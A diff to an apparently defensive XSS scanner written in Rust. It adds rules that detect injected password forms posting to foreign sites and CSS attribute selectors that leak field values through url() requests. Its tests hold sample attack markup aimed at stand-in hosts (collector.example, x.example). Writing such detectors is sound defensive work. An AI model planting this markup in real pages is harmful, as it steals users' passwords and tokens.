@@ -39,6 +39,7 @@ const BREAKOUT: usize = 8;
 const GADGET: usize = 9;
 const CLOBBER: usize = 10;
 const PDF: usize = 11;
+const FORM: usize = 12;
 
 /// The XSS rules.
 pub(crate) static RULES: &[RuleInfo] = &[
@@ -61,7 +62,7 @@ pub(crate) static RULES: &[RuleInfo] = &[
     rule(
         "xss-css-expression",
         Severity::High,
-        "Script inside CSS (expression(), javascript: in url(), behavior, -moz-binding)",
+        "Script inside CSS (expression(), javascript: in url(), behavior, -moz-binding), or a style sheet that reads field values through [value^=...] selectors",
     ),
     rule(
         "xss-srcdoc",
@@ -97,6 +98,11 @@ pub(crate) static RULES: &[RuleInfo] = &[
         "xss-pdf-action",
         Severity::High,
         "A PDF JavaScript action (/JS with code, /S /JavaScript)",
+    ),
+    rule(
+        "xss-credential-form",
+        Severity::High,
+        "Injected markup asking for a password and sending it to another site (a form with an absolute action and a password field)",
     ),
 ];
 
@@ -607,11 +613,86 @@ fn tag(b: &[u8], lt: usize, base: usize, hits: &mut Vec<Hit>) -> usize {
         let body = &b[tag_end..tag_end + close];
         // An injected style sheet written in CSS escapes hides what it
         // names (`@\69mport`, `\65xpression`).
-        if css_is_dangerous(body) || (tag_end > ne && body.contains(&b'\\')) {
+        if css_is_dangerous(body)
+            || (tag_end > ne && body.contains(&b'\\'))
+            || css_reads_values(body)
+        {
             hit(hits, CSS, base, lt, tag_end + close);
         }
     }
     tag_end.max(lt + 1)
+}
+
+/// A style sheet that reads a field's value out character by character:
+/// `input[name=csrf][value^=a]{background:url(//x/a)}` fetches a URL only
+/// when the value starts with `a`. A selector on `value` by prefix, suffix
+/// or substring, and a `url(` to load.
+fn css_reads_values(body: &[u8]) -> bool {
+    if memchr::memmem::find(body, b"url(").is_none() {
+        return false;
+    }
+    let lower = body.to_ascii_lowercase();
+    memchr::memmem::find_iter(&lower, b"[value").any(|p| {
+        let rest = &lower[p + 6..];
+        let k = rest
+            .iter()
+            .take(4)
+            .take_while(|c| c.is_ascii_whitespace())
+            .count();
+        matches!(rest.get(k..k + 2), Some(b"^=" | b"$=" | b"*="))
+    })
+}
+
+/// `<form action=//elsewhere>` holding a password field: markup that asks
+/// for the user's password and sends it to another site.
+fn credential_form(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
+    let mut budget = 64;
+    let mut form: Option<usize> = None;
+    for lt in memchr::memchr_iter(b'<', b) {
+        if budget == 0 {
+            return;
+        }
+        budget -= 1;
+        let ns = lt + 1;
+        let ne = ns
+            + b[ns..]
+                .iter()
+                .take(16)
+                .take_while(|c| c.is_ascii_alphanumeric())
+                .count();
+        let name = &b[ns..ne];
+        let end = memchr::memchr2(b'>', b'<', &b[ne..]).map_or(b.len(), |o| ne + o);
+        if lower_eq(name, b"form") {
+            let mut foreign = false;
+            attributes(b, ne, end, |a| {
+                if let Some((vs, ve)) = a.value
+                    && (lower_eq(&b[a.name.0..a.name.1], b"action"))
+                {
+                    let v = b[vs..ve].trim_ascii().to_ascii_lowercase();
+                    foreign = v.starts_with(b"//")
+                        || v.starts_with(b"http://")
+                        || v.starts_with(b"https://");
+                }
+            });
+            form = foreign.then_some(lt);
+            continue;
+        }
+        let Some(f) = form else { continue };
+        if lower_eq(name, b"input") {
+            let mut password = false;
+            attributes(b, ne, end, |a| {
+                if let Some((vs, ve)) = a.value
+                    && lower_eq(&b[a.name.0..a.name.1], b"type")
+                {
+                    password = lower_eq(b[vs..ve].trim_ascii(), b"password");
+                }
+            });
+            if password {
+                hit(hits, FORM, base, f, end.min(b.len()));
+                return;
+            }
+        }
+    }
 }
 
 /// Whether the `<script>` whose attributes lie in `b[from..to]` is a data
@@ -1978,6 +2059,7 @@ fn analyse(b: &[u8], base: usize, hits: &mut Vec<Hit>, tags: bool) {
     }
     if tags && m & C_LT != 0 && m & C_EQ != 0 {
         dom_clobbering(b, base, hits);
+        credential_form(b, base, hits);
     }
     if m & C_SLASH != 0 && memchr::memmem::find(b, b"/JS").is_some() {
         pdf_action(b, base, hits);
@@ -2377,6 +2459,23 @@ mod tests {
             "<div x-data=\"{ open: false }\"><button @click=\"open = !open\">Menu</button></div>",
         );
         benign("<li ng-repeat=\"item in items\" ng-click=\"select(item)\">{{item.name}}</li>");
+    }
+
+    #[test]
+    fn forms_and_style_sheets_that_leak() {
+        attack(
+            "<form action=\"https://collector.example/l\"><input name=u><input type=password name=p></form>",
+            "xss-credential-form",
+        );
+        benign(
+            "<form action=\"/login\" method=post><input name=u><input type=\"password\" name=p></form>",
+        );
+        benign("<form action=\"https://pay.example/checkout\"><input name=amount value=5></form>");
+        attack(
+            "<style>input[name=token][value$=\"9\"]{background:url(//x.example/9)}</style>",
+            "xss-css-expression",
+        );
+        benign("<style>a[href^=\"http\"]{background:url(/img/ext.svg) no-repeat}</style>");
     }
 
     #[test]
